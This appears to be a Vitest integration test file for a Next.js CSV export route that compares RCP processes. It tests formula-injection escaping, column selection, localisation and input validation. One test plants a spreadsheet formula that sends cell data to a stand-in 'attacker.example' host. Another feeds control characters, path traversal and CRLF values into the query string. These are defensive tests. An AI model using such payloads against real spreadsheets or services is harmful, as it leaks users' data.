import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type * as TNextCache from "next/cache";
import type { GET as TGet } from "~/app/[locale]/compare/csv/route";
import { canonicalText } from "~/domain/rcp/profile-canonical";
import type { TLocale } from "~/i18n/routing";
import { createRcp, createUser } from "../support/factories";
import { saveChange } from "../support/profiles";

// Outside a Next server there is no request-scoped i18n config: translate with the app's own
// messages, as the server would.
vi.mock("next-intl/server", async () => {
  const { createTranslator } = await import("next-intl");
  const { messages } = await import("~/i18n/messages");
  return {
    getTranslations: ({ locale, namespace }: { locale: TLocale; namespace: "Compare" | "Rcp" }) =>
      Promise.resolve(createTranslator({ locale, messages: messages[locale], namespace })),
  };
});

// Nor is there Next's data cache: every download reads the database, which shows each test's data.
vi.mock("next/cache", async (importOriginal) => ({
  ...(await importOriginal<typeof TNextCache>()),
  unstable_cache: <T>(read: T) => read,
}));

let GET: typeof TGet;

beforeAll(async () => {
  // The route reads the app's validated environment on import, as the server does at start-up.
  vi.stubEnv("NEXTAUTH_SECRET", "integration-test-secret-of-enough-length");
  ({ GET } = await import("~/app/[locale]/compare/csv/route"));
});

async function download(locale: string, query = "") {
  const response = await GET(new Request(`http://rcp-exchange.test/${locale}/compare/csv${query}`), {
    params: Promise.resolve({ locale }),
  });
  const text = await response.text();
  const rows: string[][] = response.status === 200 ? parse(text, { bom: true }) : [];
  return { response, text, rows };
}

describe("/<locale>/compare/csv", () => {
  it("gives a profile text that starts like a formula to spreadsheets as plain text", async () => {
    const rcp = await createRcp();
    const editor = await createUser({ staff: [{ rcpId: rcp.id, role: "EDITOR" }] });
    const formula = '=HYPERLINK("https://attacker.example/?"&A1,"Details")';
    await saveChange(rcp.id, editor.id, (data) => {
      data.description = canonicalText({ en: formula });
    });

    const { response, rows } = await download("en");

    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const shortName = `Test RCP ${rcp.slug.replace("test-rcp-", "")}`;
    const row = rows.find((cells) => cells[0]?.startsWith(shortName));
    expect(row).toContain(`'${formula}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("exports the processes and columns chosen in the address, in its order", async () => {
    const { rows } = await download("en", "?rcp=sacm&rcp=puebla-process&col=priorities&col=year");
    expect(rows.map((row) => row.slice(0, 1).concat(row.slice(1).map((cell) => cell.slice(0, 4))))).toEqual([
      ["RCP", "Year", "Curr"],
      [expect.stringMatching(/^SACM — /), expect.any(String), expect.any(String)],
      [expect.stringMatching(/^Puebla Process — /), expect.any(String), expect.any(String)],
    ]);
  });

  it("exports the whole matrix for all=1, or without a choice of processes", async () => {
    const all = await download("en", "?all=1&col=year");
    const none = await download("en", "?col=year");
    expect(all.rows.length).toBeGreaterThanOrEqual(15);
    expect(none.rows).toEqual(all.rows);
  });

  it("marks English shown on a French download, as the page does", async () => {
    const rcp = await createRcp();
    const { rows } = await download("fr", `?rcp=${rcp.slug}&col=areas`);
    expect(rows[1]?.[1]).toBe("A process created by a test. (original anglais)");
  });

  it("ignores duplicated, unknown and control-character values", async () => {
    const { response, rows } = await download(
      "en",
      "?rcp=sacm&rcp=sacm&rcp=%00%1b%5B31m&rcp=..%2F..&rcp=nope&col=year&col=year&col=%0d%0a&col=constructor",
    );
    expect(response.status).toBe(200);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual(["RCP", "Year"]);
  });

  it("answers 400 with a message in the page's language to a huge or unknown choice, never a 500", async () => {
    const huge = await download("es", `?rcp=${Array.from({ length: 10_000 }, () => "sacm").join(",")}`);
    expect(huge.response.status).toBe(400);
    expect(huge.text).toMatch(/^Demasiados valores en la dirección/);

    const unknown = await download("fr", "?rcp=nope&rcp=%00");
    expect(unknown.response.status).toBe(400);
    expect(unknown.text).toMatch(/^Aucun des processus de l’adresse n’existe/);

    const many = await download("en", `?${Array.from({ length: 200 }, (_, i) => `col=c${i}`).join("&")}`);
    expect(many.response.status).toBe(400);
  });
});
